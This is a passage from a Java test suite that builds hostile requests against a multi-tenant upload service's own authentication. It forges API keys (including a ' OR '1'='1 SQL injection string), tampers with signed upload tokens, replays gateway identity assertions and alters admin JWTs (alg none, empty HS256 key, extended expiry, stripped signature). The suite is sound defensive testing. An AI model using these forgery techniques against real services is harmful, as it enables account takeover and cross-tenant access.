        for (Map.Entry<String, String> jwt : forgedAdminTokens().entrySet()) {
            cases.add(HostileCase.of(IDENTITY, "admin token " + jwt.getKey(), "GET", "/api/v1/tenants").bearer(jwt.getValue()));
        }
        return cases;
    }

    private static Map<String, String> forgedKeys(String key) {
        Map<String, String> keys = new LinkedHashMap<>();
        keys.put("made up", "upk_local_" + "a".repeat(key.length() - "upk_local_".length()));
        keys.put("of another environment", key.replaceFirst("^upk_[a-z]+_", "upk_live_"));
        keys.put("with its last character changed", flip(key, key.length() - 1));
        keys.put("with its middle character changed", flip(key, key.length() / 2));
        keys.put("in upper case", key.toUpperCase());
        keys.put("with a character more", key + "a");
        keys.put("with a character less", key.substring(0, key.length() - 1));
        keys.put("with a space inside", key.substring(0, 12) + " " + key.substring(12));
        keys.put("percent-encoded", key.replace("_", "%5F"));
        keys.put("empty", "");
        keys.put("null", "null");
        keys.put("SQL", "' OR '1'='1");
        return keys;
    }

    private Map<String, String> forgedUploadTokens() {
        String token = targets.restrictedToken();
        int dot = token.indexOf('.');
        String payload = token.substring(UploadToken.PREFIX.length(), dot);
        String signature = token.substring(dot + 1);
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("with a payload character flipped", flip(token, UploadToken.PREFIX.length() + payload.length() / 2));
        tokens.put("with a signature character flipped", flip(token, dot + 1 + signature.length() / 2));
        tokens.put("with its last character flipped", flip(token, token.length() - 1));
        tokens.put("without its signature", UploadToken.PREFIX + payload + ".");
        tokens.put("without its signature and dot", UploadToken.PREFIX + payload);
        tokens.put("with the signature doubled", token + signature);
        tokens.put("with padding added", token + "==");
        String json = new String(Base64.getUrlDecoder().decode(payload), StandardCharsets.UTF_8);
        String claimsOwner = json.replace(targets.intruderTenantId(), owner.tenantId());
        tokens.put("claiming the owner's tenant under the intruder's signature", UploadToken.PREFIX
                + Base64.getUrlEncoder().withoutPadding().encodeToString(claimsOwner.getBytes(StandardCharsets.UTF_8))
                + "." + signature);
        String unlimited = json.replaceAll("\"maxFileBytes\":\\d+", "\"maxFileBytes\":5368709120");
        tokens.put("with its size limit raised under the same signature", UploadToken.PREFIX
                + Base64.getUrlEncoder().withoutPadding().encodeToString(unlimited.getBytes(StandardCharsets.UTF_8))
                + "." + signature);
        UploadToken forged = new UploadToken(UUID.randomUUID(), owner.tenantId(), "forger", null, null, null, null,
                null, null, null, Instant.now().plus(Duration.ofHours(1)));
        tokens.put("signed with a wrong key for the owner's tenant",
                new UploadTokenSigner(IdentityKeys.privateKey(WRONG_KEY)).sign(forged));
        tokens.put("expired", targets.expiredToken());
        tokens.put("revoked", targets.revokedToken());
        tokens.put("of the intruder as a tenant key elsewhere", "upk_local_" + payload);
        return tokens;
    }

    private Map<String, String> forgedAssertions() {
        Map<String, String> assertions = new LinkedHashMap<>();
        assertions.put("for an admin, signed with a wrong key",
                assertion(null, List.of(IdentityAssertion.ROLE_ADMIN), Duration.ofMinutes(5), WRONG_KEY));
        assertions.put("for an admin, signed with the gateway's own key",
                assertion(null, List.of(IdentityAssertion.ROLE_ADMIN), Duration.ofMinutes(5), targets.gatewayPrivateKey()));
        assertions.put("for the owner, signed with the gateway's own key",
                assertion(owner.tenantId(), List.of(IdentityAssertion.ROLE_TENANT), Duration.ofMinutes(5), targets.gatewayPrivateKey()));
        assertions.put("for an admin, expired, signed with the gateway's own key",
                assertion(null, List.of(IdentityAssertion.ROLE_ADMIN), Duration.ofMinutes(-5), targets.gatewayPrivateKey()));
        String replayed = assertion(owner.tenantId(), List.of(IdentityAssertion.ROLE_TENANT, IdentityAssertion.ROLE_ADMIN),
                Duration.ofSeconds(30), targets.gatewayPrivateKey());
        assertions.put("replayed", replayed);
        assertions.put("replayed with a character flipped", flip(replayed, replayed.length() / 2));
        return assertions;
    }

    private Map<String, String> forgedAdminTokens() {
        String jwt = targets.adminToken();
        String[] parts = jwt.split("\\.");
        Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
        String claims = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        String tenantClaims = claims.replace("\"roles\":[\"admin\"]", "\"roles\":[\"admin\"],\"tenant_id\":\"" + owner.tenantId() + "\"");
        String longLived = claims.replaceAll("\"exp\":\\d+", "\"exp\":4102444800");
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("with a payload character flipped", parts[0] + "." + flip(parts[1], parts[1].length() / 2) + "." + parts[2]);
        tokens.put("with its lifetime extended", parts[0] + "." + encoder.encodeToString(longLived.getBytes(StandardCharsets.UTF_8)) + "." + parts[2]);
        tokens.put("with a tenant claim added", parts[0] + "." + encoder.encodeToString(tenantClaims.getBytes(StandardCharsets.UTF_8)) + "." + parts[2]);
        tokens.put("with alg none", encoder.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8))
                + "." + parts[1] + ".");
        tokens.put("with alg HS256 keyed by nothing", encoder.encodeToString("{\"alg\":\"HS256\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8))
                + "." + parts[1] + "." + parts[2]);
        tokens.put("without its signature", parts[0] + "." + parts[1] + ".");
        return tokens;
    }

    // -------------------------------------------------------------------------------------------------- helpers

    /** As the gateway signs one for metadata-service (the admin and tenant routes these cases aim at). */
    private String assertion(String tenantId, List<String> roles, Duration validity, String privateKey) {
        return new IdentityAssertionSigner(IdentityAssertion.ISSUER_GATEWAY, privateKey)
                .sign(new IdentityAssertion(IdentityAssertion.ISSUER_GATEWAY, IdentityAssertion.AUDIENCE_METADATA, tenantId,
                        "hostile", roles, Instant.now().plus(validity)));
    }

    static Map<String, Object> smallFile(String name) {
        return file(name, "text/plain", 5);
    }

    static Map<String, Object> file(String name, String type, long size) {
        Map<String, Object> file = new LinkedHashMap<>();
        file.put("filename", name);
        file.put("contentType", type);
        file.put("size", size);
        return file;
    }

    static String flip(String text, int at) {
        char c = text.charAt(at);
        char flipped = c == 'A' ? 'B' : c == 'a' ? 'b' : c == '0' ? '1' : 'A';
        return text.substring(0, at) + flipped + text.substring(at + 1);
    }

    static JsonNode json(RawHttp.Reply reply) {
        return EventJson.mapper().readTree(reply.body());
    }
}
